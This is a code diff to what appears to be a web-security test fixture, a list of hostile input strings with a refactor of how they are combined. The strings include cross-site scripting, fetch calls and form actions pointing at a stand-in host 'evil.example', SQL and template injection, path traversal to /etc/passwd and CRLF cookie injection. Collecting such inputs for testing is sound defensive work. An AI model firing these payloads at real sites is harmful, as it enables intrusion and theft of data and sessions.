@@ -1,6 +1,6 @@
 """A hundred texts that have broken pages elsewhere."""
 
-from itertools import product
+from itertools import chain
 
 _SCRIPTS = ("alert(1)", "window.ran=1", "fetch('//evil.example')", "top.location='//evil.example'")
 _SHAPES = (
@@ -28,8 +28,8 @@ _SHAPES = (
 _OTHERS = (
     "'; DROP TABLE users; --",
     '" OR "1"="1',
-    "{{ 7 * 7 }}{{ visit.site.__init__.__globals__ }}",
-    "{0.__class__.__mro__}{visit}{title}",
+    "{{ 7 * 7 }}{{ request.site.__init__.__globals__ }}",
+    "{0.__class__.__mro__}{request}{title}",
     "%s%s%n%p %(title)s",
     "../../../../etc/passwd\x00.html",
     "a\r\nSet-Cookie: session=evil\r\n\r\n<script>alert(1)</script>",
@@ -43,9 +43,13 @@ _OTHERS = (
     "<base href=//evil.example>",
     "<meta http-equiv=refresh content=0;url=//evil.example>",
     "<link rel=stylesheet href=//evil.example>",
-    "<form action=//evil.example><input name=mark>",
+    "<form action=//evil.example><input name=binding>",
     "x" * 5000,
     "\\\"'`${{<%[%'\"}}%\\.",
 )
 
-HOSTILE = tuple(shape.format(script) for shape, script in product(_SHAPES, _SCRIPTS)) + _OTHERS
+_INJECTED = [[shape.format(script) for script in _SCRIPTS] for shape in _SHAPES]
+HOSTILE = (*chain.from_iterable(_INJECTED), *_OTHERS)
+
+ONE_OF_EACH_SHAPE = (*(texts[number % len(texts)] for number, texts in enumerate(_INJECTED)), *_OTHERS)
+"""For a browser, which takes long."""
